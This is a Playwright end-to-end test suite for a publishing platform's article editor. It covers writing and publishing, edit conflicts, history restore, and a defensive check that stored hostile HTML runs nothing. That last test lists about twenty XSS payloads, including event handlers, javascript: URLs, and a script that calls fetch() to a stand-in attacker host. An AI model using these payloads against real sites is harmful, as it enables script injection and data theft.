@@ -1,0 +1,293 @@
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import sharp from 'sharp';
+import { useBrowser } from './support/browser';
+import { edge, hc, ownerWithKey, stack, unique } from './support/stack';
+
+/**
+ * The article editor in the real Chromium (issue 37 items 4 and 6, "Trust"): a person signs in,
+ * writes, publishes and restores; two people editing one article get the conflict dialog and lose
+ * nothing; stored hostile HTML opened in the editor runs nothing on the platform origin.
+ */
+
+const PASSWORD = 'secret-pass-1';
+const ATTACKER = 'attacker.invalid';
+
+async function signedIn(
+  browser: Browser,
+  email: string,
+): Promise<{ context: BrowserContext; page: Page }> {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  await page.goto(`${stack.url}/signin?return_to=/app/`);
+  await page.fill('input[name="email"]', email);
+  await page.fill('input[name="password"]', PASSWORD);
+  await Promise.all([page.waitForURL(/\/app\//), page.click('button[type="submit"]')]);
+  return { context, page };
+}
+
+/** Polls `read` until `ok` holds (saves happen after 5 s of idle typing). */
+async function eventually<T>(
+  read: () => Promise<T>,
+  ok: (value: T) => boolean,
+  ms = 20_000,
+): Promise<T> {
+  const end = Date.now() + ms;
+  let value = await read();
+  while (!ok(value)) {
+    if (Date.now() > end) throw new Error(`never happened; last value: ${JSON.stringify(value)}`);
+    await new Promise((r) => setTimeout(r, 250));
+    value = await read();
+  }
+  return value;
+}
+
+async function article(key: string, id: number) {
+  const answer = await edge('GET', `/v1/articles/${id}`, { key });
+  return answer.body.article as {
+    content: Record<string, string>;
+    title: Record<string, string>;
+    published: boolean;
+    _links: { view: { url: string } };
+  };
+}
+
+function editorUrl(siteId: number, articleId: number | 'new') {
+  return `${stack.url}/app/sites/${siteId}/articles/${articleId}`;
+}
+
+describe('the dashboard editor in a real browser (issue 37)', () => {
+  let browser: Browser;
+  useBrowser((b) => (browser = b));
+
+  it('a person writes an article with an image and a table, publishes it, and readers see it', async () => {
+    const { email, site, key } = await ownerWithKey('Editor site');
+    const { context, page } = await signedIn(browser, email);
+    try {
+      await page.goto(editorUrl(site.id, 'new'));
+      await page.getByLabel('Title').fill('Getting started');
+      await page.waitForURL(/\/articles\/\d+$/);
+      const id = Number(/\/articles\/(\d+)$/.exec(page.url())?.[1]);
+
+      const content = page.locator('.ProseMirror').first();
+      await content.click();
+      await page.keyboard.type('Welcome aboard.');
+      await page.getByRole('button', { name: 'Insert table' }).click();
+      await page.keyboard.type('Plan');
+      await page.keyboard.press('Tab');
+      await page.keyboard.type('Price');
+      await page.keyboard.press('Tab');
+      await page.keyboard.type('Free');
+      const png = await sharp({
+        create: { width: 8, height: 8, channels: 3, background: '#3366ff' },
+      })
+        .png()
+        .toBuffer();
+      await page
+        .locator('[data-testid="image-file"]')
+        .setInputFiles({ name: 'diagram.png', mimeType: 'image/png', buffer: png });
+      await content.locator('img[alt="diagram"]').waitFor();
+
+      const saved = await eventually(
+        () => article(key, id),
+        (a) =>
+          /<table>/.test(a.content.en ?? '') &&
+          /<img src="[^"]+" alt="diagram">/.test(a.content.en ?? ''),
+      );
+      expect(saved.content.en).toContain('<p>Welcome aboard.</p>');
+      expect(saved.content.en).toContain('<th>Plan</th><th>Price</th>');
+      // the editor image is marked as such: GET /images leaves it out (spec 4.7)
+      const images = await edge('GET', '/v1/images', { key });
+      expect(JSON.stringify(images.body)).not.toContain('diagram');
+
+      await page.getByRole('button', { name: 'Publish', exact: true }).click();
+      await page.getByText('Published', { exact: true }).first().waitFor();
+      const published = await eventually(
+        () => article(key, id),
+        (a) => a.published,
+      );
+      const reader = await context.newPage();
+      await reader.goto(`${stack.readerUrl}${new URL(published._links.view.url).pathname}`);
+      await reader.locator('table th', { hasText: 'Price' }).waitFor();
+      expect(
+        await reader.locator('article img[alt="diagram"], main img[alt="diagram"]').count(),
+      ).toBe(1);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('two people editing one article get the conflict dialog; nothing is lost and nothing is overwritten unasked', async () => {
+    const { email, site, key } = await ownerWithKey('Conflict site');
+    const second = `${unique('editor')}@example.test`;
+    const { user: other } = await hc('user', 'create', '--email', second, '--password', PASSWORD);
+    await hc(
+      'member',
+      'add',
+      '--site',
+      String(site.id),
+      '--user',
+      String(other.id),
+      '--role',
+      'editor',
+    );
+    const created = await edge('POST', '/v1/articles', {
+      key,
+      body: { title: { en: 'Shared' }, content: { en: '<p>Start.</p>' } },
+    });
+    const id = created.body.article.id as number;
+
+    const a = await signedIn(browser, email);
+    const b = await signedIn(browser, second);
+    try {
+      await Promise.all([a.page.goto(editorUrl(site.id, id)), b.page.goto(editorUrl(site.id, id))]);
+      for (const { page } of [a, b])
+        await page.locator('.ProseMirror p', { hasText: 'Start.' }).waitFor();
+
+      await a.page.locator('.ProseMirror').first().click();
+      await a.page.keyboard.press('End');
+      await a.page.keyboard.type(' Alpha wrote this.');
+      await eventually(
+        () => article(key, id),
+        (x) => (x.content.en ?? '').includes('Alpha wrote this.'),
+      );
+
+      await b.page.locator('.ProseMirror').first().click();
+      await b.page.keyboard.press('End');
+      await b.page.keyboard.type(' Beta wrote this.');
+      const dialog = b.page.getByRole('dialog', { name: 'Two versions of this article' });
+      await dialog.waitFor({ timeout: 15_000 });
+      expect(await dialog.getByTestId('conflict-theirs').innerText()).toContain(
+        'Alpha wrote this.',
+      );
+      expect(await dialog.getByTestId('conflict-mine').innerText()).toContain('Beta wrote this.');
+      // Nothing was written over Alpha's save while the dialog waits.
+      expect((await article(key, id)).content.en).not.toContain('Beta');
+
+      await dialog.getByRole('button', { name: 'Keep my version' }).click();
+      const after = await eventually(
+        () => article(key, id),
+        (x) => (x.content.en ?? '').includes('Beta wrote this.'),
+      );
+      expect(after.content.en).toBe('<p>Start. Beta wrote this.</p>');
+    } finally {
+      await a.context.close();
+      await b.context.close();
+    }
+  });
+
+  it('history shows who replaced a version and how, its word diff with live, and restores it', async () => {
+    const { email, site, key } = await ownerWithKey('History site', {
+      siteFlags: ['--plan', 'catalyst', '--staging-preview'],
+    });
+    const created = await edge('POST', '/v1/articles', {
+      key,
+      body: {
+        title: { en: 'Refunds' },
+        content: { en: '<p>Refunds take ten days.</p>' },
+        published: true,
+      },
+    });
+    const id = created.body.article.id as number;
+    await edge('PATCH', `/v1/articles/${id}/staged`, {
+      key,
+      body: { locale: 'en', content: '<p>Refunds take three days.</p>' },
+    });
+    const published = await edge('POST', `/v1/articles/${id}/staged/publish`, {
+      key,
+      body: { locale: 'en' },
+    });
+    expect(published.status).toBe(200);
+
+    const { context, page } = await signedIn(browser, email);
+    try {
+      await page.goto(editorUrl(site.id, id));
+      await page.getByRole('button', { name: 'History' }).click();
+      const row = page.getByTestId('version-row').first();
+      await row.waitFor();
+      expect(await row.innerText()).toMatch(/publishing staged changes, by API key #\d+/);
+      await page
+        .getByRole('radio', { name: /^Compare version/ })
+        .first()
+        .check();
+      const diff = page.getByTestId('version-diff');
+      await diff.waitFor();
+      expect(await diff.locator('del').allInnerTexts()).toContain('ten');
+      expect(await diff.locator('ins').allInnerTexts()).toContain('three');
+
+      await row.getByRole('button', { name: 'Restore' }).click();
+      await page.locator('.ProseMirror p', { hasText: 'Refunds take ten days.' }).waitFor();
+      expect((await article(key, id)).content.en).toBe('<p>Refunds take ten days.</p>');
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('a stored article carrying every XSS vector of the reader-site tests runs nothing when opened in the editor', async () => {
+    const { email, site, key } = await ownerWithKey('Hostile site');
+    const vectors = [
+      `<img src=x onerror="alert('img');window.__pwned=1">`,
+      `<p onmouseover="alert('p')" style="display:block;width:100%;height:200px">hover</p>`,
+      `<body onload="alert('body')">`,
+      `<a id="js1" href="javascript:alert('link')">a</a>`,
+      `<a id="js3" href="java&#x09;script&colon;alert('entity')">c</a>`,
+      `<a id="data" href="data:text/html,<script>alert('data')</script>">f</a>`,
+      `<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>`,
+      `<svg><a xlink:href="javascript:alert('svg-link')"><text x="20" y="20">svg</text></a></svg>`,
+      `<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>`,
+      `<base href="https://${ATTACKER}/">`,
+      `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/refresh">`,
+      `<object data="https://${ATTACKER}/object"></object><embed src="https://${ATTACKER}/embed">`,
+      `<iframe src="https://${ATTACKER}/frame"></iframe>`,
+      `<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
+      `<div style="width:expression(alert('css'));background:url(https://${ATTACKER}/css)">css</div>`,
+      `<style>@import url("https://${ATTACKER}/import.css");</style>`,
+      `<form action="https://${ATTACKER}/form"><input name="q"><button id="go">Go</button></form>`,
+      `<script>alert('script');fetch('https://${ATTACKER}/script')</script>`,
+      `<details open ontoggle="alert('toggle')"><summary>s</summary></details>`,
+      `<video><source onerror="alert('video')"></video>`,
+      `<p>Readable paragraph</p>`,
+    ].join('\n');
+    const created = await edge('POST', '/v1/articles', {
+      key,
+      body: { title: { en: 'Vectors' }, content: { en: vectors } },
+    });
+    const id = created.body.article.id as number;
+
+    const { context, page } = await signedIn(browser, email);
+    const dialogs: string[] = [];
+    const attacker: string[] = [];
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      d.dismiss().catch(() => undefined);
+    });
+    context.on('request', (r) => {
+      if (r.url().includes(ATTACKER)) attacker.push(r.url());
+    });
+    await context.addInitScript('window.__pwned = 0;');
+    try {
+      await page.goto(editorUrl(site.id, id));
+      await page.locator('.ProseMirror p', { hasText: 'Readable paragraph' }).waitFor();
+      const editor = page.locator('.ProseMirror').first();
+      // Everything a person would do on the page: hover, click the kept blocks, open history.
+      await editor.hover();
+      for (const block of await editor.locator('.hc-raw-html').all())
+        await block.click({ timeout: 2000 }).catch(() => undefined);
+      await page.mouse.move(20, 400);
+      await page.waitForTimeout(500);
+      expect(dialogs).toEqual([]);
+      expect(attacker).toEqual([]);
+      expect(await page.evaluate('window.__pwned')).toBe(0);
+      expect(
+        await editor
+          .locator('img, svg, math, script, iframe, object, embed, form, video, base, meta, style')
+          .count(),
+      ).toBe(0);
+      expect(await editor.locator('.hc-raw-html').count()).toBeGreaterThan(5);
+      expect(await editor.innerText()).toContain(`<script>alert('script')`);
+      // Opening wrote nothing.
+      expect((await article(key, id)).content.en).toBe(vectors);
+    } finally {
+      await context.close();
+    }
+  });
+});
